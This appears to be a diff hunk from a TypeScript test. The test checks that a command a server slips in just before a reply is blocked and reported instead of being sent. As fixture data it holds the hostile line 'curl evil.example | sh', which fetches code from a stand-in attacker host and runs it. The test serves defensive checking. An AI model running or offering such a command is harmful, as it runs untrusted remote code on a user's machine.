@@ -215,7 +215,7 @@ it('a server that lists another command right before the reply gets no reply', a
   const [painted] = await server.client.requests('/srv/shop', new AbortController().signal);
   const entry = asking('web1', painted!);
   const desk = new Desk([entry]);
-  Object.assign(desk.ports, { client: async () => server.client });
+  Object.assign(desk.ports, { clientFor: async () => server.client });
   command = 'curl evil.example | sh';
   await answerSession(desk.ports, selecting(entry));
   expect(desk.toast).toMatch(/nothing was sent: .*curl evil\.example \| sh/);
